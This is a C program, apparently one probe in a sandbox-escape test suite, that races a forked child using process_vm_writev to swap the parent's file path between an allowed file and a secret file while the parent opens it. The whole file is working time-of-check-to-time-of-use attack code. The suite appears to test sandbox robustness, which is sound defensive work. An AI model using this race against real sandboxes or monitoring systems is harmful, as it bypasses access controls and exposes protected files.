/* e0104-toctou-vm-writev - argument TOCTOU on open(), by a sibling
 * process writing the path with process_vm_writev().
 *
 * Attack: the program forks; the child rewrites the parent's path buffer
 * (same address after fork) with process_vm_writev, between the allowed
 * file and the secret, while the parent opens and reads the buffer's path.
 * Source: Watson 2007 (races through shared memory and debugging
 * interfaces); DESIGN.md "Races and side doors".
 * Usage: e0104-toctou-vm-writev ALLOWED SECRET */
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "escape.h"

static char path[PATH_MAX];

static void flip(pid_t parent, const char *a, const char *b)
{
	struct iovec la = { (void *)a, strlen(a) + 1 }, lb = { (void *)b, strlen(b) + 1 };
	struct iovec ra = { path, la.iov_len }, rb = { path, lb.iov_len };
	struct esc_race r;
	esc_race_init(&r);
	r.tries = -10 * ESC_RACE_TRIES;	/* time-bounded only */
	while (esc_race_go(&r)) {
		if (process_vm_writev(parent, &lb, 1, &rb, 1, 0) < 0 ||
		    process_vm_writev(parent, &la, 1, &ra, 1, 0) < 0) {
			esc_show_result("process_vm_writev into the parent", -1);
			return;
		}
	}
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0104-toctou-vm-writev ALLOWED SECRET");
	char expect[512];
	if (esc_read_file(argv[1], expect, sizeof expect) < 0)
		esc_die(argv[1]);
	strcpy(path, argv[1]);
	pid_t parent = getpid();
	fflush(NULL);
	pid_t pid = fork();
	if (pid < 0)
		esc_die("fork");
	if (pid == 0) {
		flip(parent, argv[1], argv[2]);
		_exit(0);
	}
	esc_race_open("open of the path a sibling rewrites", path, expect);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return 0;
}
